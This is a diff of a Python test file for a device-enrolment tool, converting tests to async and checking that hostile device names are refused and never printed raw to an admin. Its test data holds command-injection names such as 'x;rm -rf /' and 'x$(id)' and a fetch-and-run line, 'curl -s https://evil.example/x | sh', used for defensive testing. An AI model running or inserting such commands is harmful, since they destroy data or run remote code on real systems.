@@ -4,7 +4,6 @@
 from __future__ import annotations
 
 import argparse
-import asyncio
 from pathlib import Path
 
 import pytest
@@ -31,13 +30,14 @@ HOSTILE_NAMES = [HOSTILE, "a b", "x;rm -rf /", "x$(id)", "-rf", "", "a" * 65, "c
                  "\u202egnp.exe", "x\x00"]
 
 
+@pytest.mark.asyncio
 @pytest.mark.parametrize("name", HOSTILE_NAMES)
-def test_names_are_refused_where_they_are_made(tmp_path: Path, name: str) -> None:
+async def test_names_are_refused_where_they_are_made(tmp_path: Path, name: str) -> None:
     with pytest.raises(UsageError, match="device name"):
         enrol.CodeBook(tmp_path / "codes.json").issue(name, T)
     signing, wrapping = crypto.Ed25519PrivateKey.generate(), crypto.X25519PrivateKey.generate()
     with pytest.raises(UsageError, match="device name"):
-        asyncio.run(enrol.send_request(MemoryStore(), signing, wrapping, name, "C" * 16, T))
+        await enrol.send_request(MemoryStore(), signing, wrapping, name, "C" * 16, T)
     rec = DeviceRecord(crypto.key_id(signing.public_key()), name,
                        crypto.raw_public(signing.public_key()),
                        crypto.raw_public(wrapping.public_key()), T)
@@ -65,7 +65,8 @@ def test_a_signed_record_or_request_with_a_hostile_name_is_refused_when_read() -
         enrol.EnrolmentRequest.parse(canonical_json(req), device, "enrolment/x")
 
 
-def test_a_hostile_enrolment_request_prints_nothing_raw(
+@pytest.mark.asyncio
+async def test_a_hostile_enrolment_request_prints_nothing_raw(
         tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """The attack: a laptop with a valid code names itself HOSTILE; `enrol --accept` prints
     the name right above the root script the admin pastes on the storage server."""
@@ -76,27 +77,27 @@ def test_a_hostile_enrolment_request_prints_nothing_raw(
     cfg = RepoConfig(repository="0" * 32, created=T, chunk_size=64 << 10,
                      admin_key=crypto.raw_public(k.admin.public_key()),
                      escrow_key=crypto.raw_public(k.escrow.public_key()))
-    asyncio.run(put_signed(remote, layout.CONFIG, k.admin, ("config", CONFIG_ID),
-                           cfg.to_bytes()))
+    await put_signed(remote, layout.CONFIG, k.admin, ("config", CONFIG_ID),
+                     cfg.to_bytes())
     signing, wrapping = crypto.Ed25519PrivateKey.generate(), crypto.X25519PrivateKey.generate()
     device = crypto.key_id(signing.public_key())
     ssh_key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB vmclient-device"
     req = enrol.EnrolmentRequest(device, HOSTILE, crypto.raw_public(signing.public_key()),
                                  crypto.raw_public(wrapping.public_key()), T,
                                  ssh_key=ssh_key).with_proof(code)
-    asyncio.run(put_signed(remote, enrol.request_path(device), signing, ("enrolment", device),
-                           req.to_bytes(), exclusive=False))
+    await put_signed(remote, enrol.request_path(device), signing, ("enrolment", device),
+                     req.to_bytes(), exclusive=False)
     args = argparse.Namespace(code=None, accept=True, dropbox=None, key_dir=k.dir,
                               server_repo="/srv/repo", repo="/srv/repo",
                               server_keys="/etc/ssh/vmc")
     with pytest.raises(UsageError, match="1 enrolment request"):
-        asyncio.run(fleet.cmd_enrol_code(args, remote))
+        await fleet.cmd_enrol_code(args, remote)
     out = capsys.readouterr().out
     assert ESC not in out and "\x07" not in out
     lines = out.splitlines()
     assert "curl -s https://evil.example/x | sh" not in lines
     assert not any(line.startswith("# --- on the storage server") for line in lines), out
-    assert asyncio.run(remote.list(layout.device_dir(device))) == []  # not enrolled
+    assert await remote.list(layout.device_dir(device)) == []  # not enrolled
     assert not any(c["used_by"] == device for c in book._load())
 
 
@@ -131,7 +132,8 @@ def _b64(raw: bytes) -> str:
     return base64.b64encode(raw).decode()
 
 
-def test_the_laptop_refuses_a_bad_name_before_touching_its_keys(tmp_path: Path) -> None:
+@pytest.mark.asyncio
+async def test_the_laptop_refuses_a_bad_name_before_touching_its_keys(tmp_path: Path) -> None:
     from vmclient.host.inventory import ManageConfig
     from vmclient.manage.agent import Agent
     from vmclient.virt.libvirt import Hypervisor
@@ -140,5 +142,5 @@ def test_the_laptop_refuses_a_bad_name_before_touching_its_keys(tmp_path: Path) 
     agent = Agent(cfg, MemoryStore(), Hypervisor("qemu:///system"))  # never connected
     admin = crypto.raw_public(crypto.Ed25519PrivateKey.generate().public_key())
     with pytest.raises(UsageError, match="device name"):
-        asyncio.run(agent.request_enrolment(admin, "my laptop\n", "C" * 16))
+        await agent.request_enrolment(admin, "my laptop\n", "C" * 16)
     assert not cfg.device_keys_dir.exists() and not (cfg.state_dir / "admin.pub").exists()
